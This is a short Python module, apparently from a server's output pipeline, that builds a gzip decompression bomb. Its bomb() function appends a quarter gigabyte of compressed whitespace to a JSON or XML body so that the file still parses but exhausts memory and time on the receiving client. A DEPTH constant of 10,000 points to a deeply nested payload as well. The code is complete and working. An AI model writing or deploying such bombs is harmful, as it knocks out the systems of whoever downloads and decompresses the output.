"""What is done to finished bytes before they leave, whatever they are written in."""

import zlib
from functools import cache
from struct import pack

#: What a gzip bomb unfolds to: white space after the end, which JSON and XML both allow.
_BLANKS = b" " * 2**20
_BLOCKS = 256
#: Of a gzip file: deflated, without a name or a time.
_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
#: More levels than any careful reader follows.
DEPTH = 10_000


def bomb(body: bytes) -> bytes:
    """The same document with a quarter of a gigabyte of blanks behind it, gzipped."""
    packer = zlib.compressobj(level=1, wbits=-zlib.MAX_WBITS)
    start = packer.compress(body) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = zlib.crc32(body)
    for _ in range(_BLOCKS):
        checksum = zlib.crc32(_BLANKS, checksum)
    length = len(body) + _BLOCKS * len(_BLANKS)
    return b"".join([_HEAD, start, _packed_blanks(), pack("<II", checksum, length)])


@cache
def _packed_blanks() -> bytes:
    """The end of a deflated stream, after a full flush; packing it takes half a second."""
    packer = zlib.compressobj(level=1, wbits=-zlib.MAX_WBITS)
    pieces = [packer.compress(_BLANKS) for _ in range(_BLOCKS)]
    return b"".join([*pieces, packer.flush()])
